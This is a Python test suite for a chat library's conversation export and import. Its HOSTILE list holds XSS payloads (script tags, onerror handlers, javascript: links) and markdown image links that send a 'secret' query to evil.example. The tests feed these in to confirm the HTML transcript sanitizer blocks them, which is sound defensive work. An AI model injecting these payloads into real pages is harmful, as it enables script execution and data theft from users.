"""What becomes of a conversation that is exported, and of what is imported, whoever made it."""

from __future__ import annotations

import json
import re
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

import nbformat
import pytest
from hypothesis import given
from hypothesis import strategies as st

import llama_widgets as lw
from llama_widgets.chat import archive, transcript
from llama_widgets.chat.book import Book, Conversation
from llama_widgets.chat.settings import Settings
from llama_widgets.chat.tree import Tree
from llama_widgets.chat.turns import Turn, read_turns
from llama_widgets.engines.scripted import ScriptedEngine, Thought, ToolCalls
from llama_widgets.errors import ConversationError
from llama_widgets.worker import Worker
from tests.unit.conftest import until

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats(allow_nan=False) | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=8,
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    '[x](https://a.example/" onmouseover="alert(1))',
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/?q=secret",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<https://a.example/><javascript:alert(1)>",
    "```html\n</code></pre><script>alert(1)</script>",
    "```</code><img src=x>\nx\n```",
    "|a|\n|-|\n|<style>*{color:red}</style>|",
    "$</div><script>alert(1)</script>$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "<div>\n\n<style>body{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "[a]: javascript:alert(1)\n\n[a]",
]


@pytest.fixture
def worker() -> Iterator[Callable[..., Worker]]:
    made: list[Worker] = []

    def build(script: Any = None) -> Worker:  # noqa: ANN401
        made.append(Worker(lambda: ScriptedEngine(script), find=Path))
        return made[-1]

    yield build
    for each in made:
        each.close()


@st.composite
def messages(draw: st.DrawFn) -> dict[str, Any]:
    role = draw(st.sampled_from(["user", "assistant", "system", "tool"]))
    message: dict[str, Any] = {"role": role, "content": draw(TEXT)}
    if role == "tool":
        message |= {"name": draw(TEXT), "tool_call_id": draw(TEXT), "state": draw(st.sampled_from(["done", "failed"]))}
    if role == "assistant":
        message["stop_reason"] = draw(st.sampled_from(["eos", "abort", "max_tokens", "error", "tool_calls"]))
        message["thoughts"] = draw(TEXT)
        message["usage"] = {"completion_tokens": draw(st.integers(0, 9))}
        message["timings"] = {"ttft_s": draw(st.none() | st.floats(0, 9))}
        arguments = st.dictionaries(TEXT, JSON, max_size=2)
        calls = st.lists(st.fixed_dictionaries({"id": TEXT.filter(bool), "name": TEXT, "arguments": arguments}))
        message["tool_calls"] = draw(calls.filter(lambda all_: len(all_) < 3))
    return message


@st.composite
def books(draw: st.DrawFn) -> Book:
    book = Book()
    book.conversations = []
    for _ in range(draw(st.integers(1, 3))):
        turns = read_turns(draw(st.lists(messages(), max_size=8)))
        parents = [draw(st.integers(-1, at - 1)) for at in range(len(turns))]
        of = {parent: at for at, parent in enumerate(parents) if draw(st.booleans())}
        placed = [
            (turn, "" if parents[at] < 0 else turns[parents[at]].id, of.get(parents[at]) == at)
            for at, turn in enumerate(turns)
        ]
        book.conversations.append(Conversation(given_name=draw(TEXT), tree=Tree.of(placed)))
    book.current = draw(st.sampled_from(book.conversations))
    return book


SETTINGS = st.fixed_dictionaries(
    {},
    optional={
        "temperature": st.floats(0, 5),
        "seed": st.none() | st.integers(0, 2**32 - 1),
        "stop": st.lists(TEXT, max_size=2),
        "logit_bias": st.dictionaries(TEXT, st.floats(-9, 9), max_size=2),
        "thinking": st.booleans(),
        "json_schema": st.none() | st.just({"type": "object"}),
    },
)


@given(books(), st.none() | TEXT, SETTINGS, st.booleans())
def test_what_is_written_is_read_back_exactly(
    book: Book, system: str | None, settings: dict[str, Any], flat: bool
) -> None:
    def write(book: Book, system: str | None, settings: dict[str, Any]) -> dict[str, Any]:
        chosen = Settings().changed(settings)
        return archive.write(book, model="hf:user/repo:Q4_K_M", system=system, settings=chosen, flat=flat)

    data = write(book, system, settings)
    saved = archive.read(json.dumps(data))
    assert write(saved.book, saved.system, saved.settings) == data
    assert saved.model == "hf:user/repo:Q4_K_M"
    for before, after in zip(book.conversations, saved.book.conversations, strict=True):
        assert before.tree.to_list() == after.tree.to_list()
        assert (before.id, before.given_name) == (after.id, after.given_name)
    assert saved.book.current.id == book.current.id


def test_the_messages_are_those_of_openai() -> None:
    call = {"id": "c", "name": "weather", "arguments": {"town": "Zürich"}}
    said = [{"role": "user", "content": "?"}, {"role": "assistant", "content": "", "tool_calls": [call]}]
    book = Book()
    book.current.tree.path = read_turns(said)
    prompt, question, answer = archive.write(book, system="Be terse.")["messages"]
    assert prompt == {"role": "system", "content": "Be terse."}
    assert (question["role"], question["content"]) == ("user", "?")
    (made,) = answer["tool_calls"]
    assert (made["id"], made["type"], made["function"]["name"]) == ("c", "function", "weather")
    assert json.loads(made["function"]["arguments"]) == {"town": "Zürich"}


def test_what_others_wrote_is_read() -> None:
    given = [
        {"role": "developer", "content": "Be terse."},
        {"role": "user", "content": [{"type": "text", "text": "one"}, {"type": "text", "text": "two"}]},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": "c", "type": "function", "function": {"name": "f", "arguments": '{"a": 1}'}}],
        },
        {"role": "tool", "tool_call_id": "c", "content": "1"},
        {"role": "assistant", "content": "1.", "refusal": None},
    ]
    for source in (given, {"model": "x", "messages": given}, json.dumps(given), "\ufeff" + json.dumps(given)):
        saved = archive.read(source)
        turns = saved.book.current.tree.path
        assert saved.system == "Be terse."
        assert [(turn.role, turn.content) for turn in turns] == [
            ("user", "one\ntwo"),
            ("assistant", ""),
            ("tool", "1"),
            ("assistant", "1."),
        ]
        assert turns[1].tool_calls == [{"id": "c", "name": "f", "arguments": {"a": 1}}]
        assert turns[2].name == "f"


def _whole(**changes: object) -> dict[str, Any]:
    book = Book()
    book.current.tree.path = read_turns([{"role": "user", "content": "a"}])
    book.current.tree.path = read_turns([{"role": "user", "content": "b"}])
    return {**archive.write(book), **changes}


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("{", "not JSON"),
        ("[1]", "no object"),
        ("{}", "no list of messages"),
        ('{"messages": {"role": "user"}}', "no list of messages"),
        ('[{"role": "robot", "content": "x"}]', "role"),
        ('[{"role": "user"}]', "content as text"),
        ('[{"role": "user", "content": [{"type": "image_url"}]}]', "something else"),
        (b"\xff\xfe", "UTF-8"),
        ("[" * 100_000, "JSON|deep"),
        ('{"messages": ' + "[" * 500 + "]" * 500 + "}", "deep"),
        ('[{"role": "user", "content": ' + "9" * 5000 + "}]", "JSON|text"),
        (_whole(version=2), "newer"),
        (_whole(settings={"temperature": 99}), "temperature"),
        (_whole(settings={"nonsense": 1}), "nonsense"),
        (_whole(settings=[]), "settings"),
        (_whole(system=3, model=3), "model"),
        (_whole(conversations=3), "conversations"),
        (_whole(conversations=[{"id": "a"}, {"id": "a"}]), "one id"),
        (_whole(turns=3), "turns"),
        (_whole(turns=[{"id": "nobody"}]), "role"),
        (_whole(turns=[{"id": "t", "role": "user", "content": "x"}]), "place"),
        (_whole(messages=[], turns=[{"id": "t", "role": "user", "content": "x", "parent": "t"}]), "follows"),
        (_whole(turns=[{"id": "t", "role": "user", "content": "x", "conversation": "y"}]), "belongs"),
        (None, "messages"),
        (3, "messages"),
        ("nowhere.json", "No such file"),
        (Path("nowhere.json"), "No such file"),
        ("/proc/self/mem", "cannot be read"),
        ("a\0b", "cannot be read"),
    ],
)
def test_what_cannot_be_read_is_refused(source: object, why: str) -> None:
    with pytest.raises(ConversationError, match=why) as caught:
        archive.read(source)
    assert caught.value.hint
    assert len(str(caught.value)) < 600


@given(JSON | st.lists(messages() | JSON, max_size=3) | st.fixed_dictionaries({"messages": st.lists(messages())}))
def test_anything_else_is_read_or_refused(data: Any) -> None:  # noqa: ANN401
    try:
        saved = archive.read(json.dumps(data))
    except ConversationError:
        return
    again = archive.write(saved.book, system=saved.system)
    assert archive.write(archive.read(again).book, system=saved.system) == again


@given(st.data())
def test_a_damaged_file_is_read_or_refused(data: st.DataObject) -> None:
    text = json.dumps(_whole())
    at, length = data.draw(st.integers(0, len(text))), data.draw(st.integers(0, 20))
    damaged = text[:at] + data.draw(st.text('{}[]",:0tn\\', max_size=5)) + text[at + length :]
    try:
        archive.read(damaged if damaged.lstrip().startswith(("{", "[")) else damaged.encode())
    except ConversationError as error:
        assert error.message  # noqa: PT017 - it may be whole all the same


def test_too_large_is_refused_before_it_is_read(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(archive, "LARGEST", 100)
    text = json.dumps([{"role": "user", "content": "x" * 100}])
    (tmp_path / "large.json").write_text(text)
    for source in (text, text.encode(), tmp_path / "large.json"):
        with pytest.raises(ConversationError, match="too large"):
            archive.read(source)


@pytest.mark.parametrize(
    ("model", "name"),
    [
        ("", ""),
        ("/home/me/models/secret.gguf", "secret.gguf"),
        ("C:\\Users\\me\\secret.gguf", "secret.gguf"),
        ("hf:user/repo:Q4_K_M", "hf:user/repo:Q4_K_M"),
        ("https://files.example/a/m.gguf?token=secret", "m.gguf"),
        ("a name/of\\nothing", "nothing"),
    ],
)
def test_nothing_of_this_machine_is_in_a_name(model: str, name: str) -> None:
    assert archive.shareable(model) == name


def test_what_is_not_yet_whole_is_kept_as_stopped(worker: Callable[..., Worker]) -> None:
    kept: list[dict[str, Any]] = []

    def note() -> str:
        kept.append(chat.to_dict())
        return "x"

    rounds: list[list[Any]] = [[Thought("Hm"), ToolCalls([{"name": "note", "arguments": {}}])], ["one"]]
    chat = lw.Chat("a.gguf", worker=worker(lambda _: rounds.pop(0)), tools=[note])
    chat.ask("x")
    assert [(m["role"], m.get("stop_reason") or m.get("state")) for m in kept[0]["messages"]] == [
        ("user", None),
        ("assistant", "tool_calls"),
        ("tool", "stopped"),
    ]
    assert len(archive.read(kept[0]).book.current.tree) == 3


@pytest.mark.parametrize("kind", [lw.Chat, lw.ChatPanel])
def test_both_go_on_from_json(kind: Any, worker: Callable[..., Worker], tmp_path: Path) -> None:  # noqa: ANN401
    own = worker()
    chat = kind("a.gguf", system="Be terse.", temperature=0.25, worker=own)
    chat.ask("b a")
    chat.regenerate()
    chat.edit(0, "d c")
    chat.new_conversation("Another")
    chat.ask("f e")
    chat.to_json(tmp_path / "chat.json")
    again = kind.from_json(tmp_path / "chat.json", worker=own)
    assert again.to_dict() == chat.to_dict()
    assert (again.model, again.system) == ("a.gguf", "Be terse.")
    assert [each["name"] for each in again.conversations] == ["d c", "Another"]
    again.open_conversation("d c")
    assert len(again.messages[0]["siblings"]) == 2
    other = kind.from_json(chat.to_json(), "b.gguf", worker=own, temperature=0.5, system="Be long.")
    assert (other.model, other.system) == ("b.gguf", "Be long.")
    assert other.to_dict()["settings"] == {"temperature": 0.5}
    assert [each["name"] for each in other.conversations] == ["d c", "Another"]


def test_an_import_adds_and_loses_nothing(worker: Callable[..., Worker]) -> None:
    panel = lw.ChatPanel("a.gguf", worker=worker())
    panel.ask("b a")
    panel.import_json([{"role": "user", "content": "theirs"}])
    assert [each["name"] for each in panel.conversations] == ["b a", "theirs"]
    assert [message["content"] for message in panel.messages] == ["theirs"]
    panel.import_json(panel.to_json())  # the same once more: other ids
    assert len({each["id"] for each in panel.conversations}) == 4
    with pytest.raises(ConversationError):
        panel.import_json("{}")
    assert len(panel.conversations) == 4


def test_a_view_cannot_name_a_file(worker: Callable[..., Worker], tmp_path: Path) -> None:
    (tmp_path / "secret.json").write_text('[{"role": "user", "content": "secret"}]')
    panel = lw.ChatPanel("a.gguf", worker=worker())
    for text in (str(tmp_path / "secret.json"), "\ud800"):
        panel.handle({"type": "import", "request_id": "i", "text": text})
        until(lambda: panel.error is not None)
        assert panel.error["code"] == "conversation"
        assert "secret" not in str(panel.error)
        panel.show(error=None)
    panel.handle({"type": "import", "request_id": "j", "text": '[{"role": "user", "content": "mine"}]'})
    until(lambda: [message["content"] for message in panel.messages] == ["mine"])


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.attributes: list[tuple[str, str, str | None]] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, *attribute) for attribute in attrs]


_TAGS = {"a", "blockquote", "br", "code", "details", "em", "hr", "li", "ol", "p", "pre", "s", "strong", "summary", "ul"}
_TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "tbody", "td", "th", "thead", "tr"}


def _check_safe(html: str) -> None:
    found = _Tags()
    found.feed(html)
    found.close()
    assert set(found.tags) <= _TAGS
    for tag, name, value in found.attributes:
        assert (tag, name) in {("a", "href"), ("a", "title"), ("code", "class"), ("ol", "start")}, (tag, name, value)
        assert name != "href" or re.match(r"(https?://|mailto:)", value or "")
    assert not re.search(r"\n[ \t]*\n", html)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("key", ["content", "thoughts", "name"])
def test_nothing_gets_into_the_transcript(text: str, key: str) -> None:
    for role in ("user", "assistant", "system", "tool"):
        message = {"role": role, "content": "x", "name": "f", "thoughts": "", key: text}
        calls = [{"name": text, "arguments": {text: text}}]
        _check_safe(transcript.html([{**message, "tool_calls": calls, "stop_reason": "abort"}]))


@given(st.lists(st.sampled_from([*HOSTILE, *"*_`[]()<>!#|$\\~&\n \t-"]) | TEXT, max_size=8).map("".join))
def test_nothing_that_is_put_together_gets_into_it_either(text: str) -> None:
    _check_safe(transcript.html([{"role": "assistant", "content": text}, {"role": "user", "content": text}]))


def test_the_transcript_shows_what_was_said() -> None:
    html = transcript.html(
        [
            {"role": "user", "content": "if x:\n    y <b>"},
            {"role": "assistant", "content": "So **it** is $a_1 * b * c_1$.\n\n|a|\n|-:|\n|1|", "thoughts": "Hm"},
            {"role": "tool", "content": "1 < 2", "name": "f"},
            {"role": "assistant", "content": "```py\nx\n\n\ny", "stop_reason": "abort"},
        ]
    )
    assert "if x:<br>\n&nbsp;&nbsp;&nbsp;&nbsp;y &lt;b&gt;" in html
    assert "<strong>it</strong> is $a_1 * b * c_1$." in html
    assert "<td>1</td>" in html
    assert "<summary>Thoughts</summary>" in html
    assert "<pre>1 &lt; 2</pre>" in html
    assert "x&#10;&#10;\ny" in html
    assert html.endswith("<p><em>Stopped.</em></p>")


SAID = [
    {"role": "user", "content": "Why?"},
    {"role": "assistant", "content": "See:\n\n```py\nprint()", "stop_reason": "max_tokens", "thoughts": "one\n\ntwo"},
    {"role": "tool", "content": "a ``` b", "name": "f"},
]


def test_markdown_is_whole_where_an_answer_was_cut() -> None:
    text = transcript.markdown(SAID, title="T", thoughts=True)
    assert text.startswith(
        "# T\n\n**You**\n\nWhy?\n\n**Assistant**\n\n> one\n>\n> two\n\nSee:\n\n```py\nprint()\n```\n\n*Cut"
    )
    assert text.endswith("**Tool f**\n\n````\na ``` b\n````\n")
    assert "two" not in transcript.markdown(SAID)
    assert transcript.markdown([]) == ""


def test_a_notebook_has_a_cell_for_each_turn_and_loads_nothing(tmp_path: Path) -> None:
    chat = lw.Chat(messages=[*SAID, {"role": "assistant", "content": "![x](https://evil.example) <img src=x> `<b>`"}])
    made = chat.to_notebook(tmp_path / "chat.ipynb")
    read: Any = nbformat.read
    nbformat.validate(read(tmp_path / "chat.ipynb", as_version=4))
    texts = ["".join(cell["source"]) for cell in made["cells"]]
    assert len(texts) == 4
    assert texts[0] == "**You**\n\nWhy?"
    assert texts[3] == "**Assistant**\n\n[x](https://evil.example) &lt;img src=x> `<b>`"


@pytest.mark.parametrize("library", ["pandas", "polars"])
def test_a_table_has_a_row_for_each_turn(library: str, worker: Callable[..., Worker]) -> None:
    chat = lw.Chat("a.gguf", worker=worker())
    assert len(chat.to_dataframe(library)) == 0
    chat.ask("b a")
    table = chat.to_dataframe(library)
    assert type(table).__module__.startswith(library)
    assert list(table.columns) == list(transcript.COLUMNS)
    assert list(table["content"]) == ["b a", "a b "]
    assert list(table["completion_tokens"])[1] == 2


def test_a_table_needs_a_library(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("pandas", "polars"):
        monkeypatch.setitem(sys.modules, name, None)
    with pytest.raises(lw.errors.ParameterError, match="pip install pandas"):
        lw.Chat().to_dataframe()
    with pytest.raises(lw.errors.ParameterError, match="pip install polars"):
        lw.Chat().to_dataframe("polars")
    with pytest.raises(lw.errors.ParameterError, match="no tables"):
        lw.Chat().to_dataframe("excel")


def test_a_file_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    with pytest.raises(ConversationError, match=r"'x\.md' cannot be written"):
        lw.Chat().to_markdown(tmp_path / "nowhere" / "x.md")


def test_turns_have_the_ids_they_had() -> None:
    turn = Turn(role="user", pieces=["x"])
    book = Book()
    book.current.tree.path = [turn]
    assert archive.read(archive.write(book)).book.current.tree.path[0].id == turn.id
    twice = [{"id": "a", "role": "user", "content": "x"}, {"id": "a", "role": "user", "content": "y"}]
    ids = [turn.id for turn in archive.read(twice).book.current.tree.path]
    assert ids[0] == "a" != ids[1]
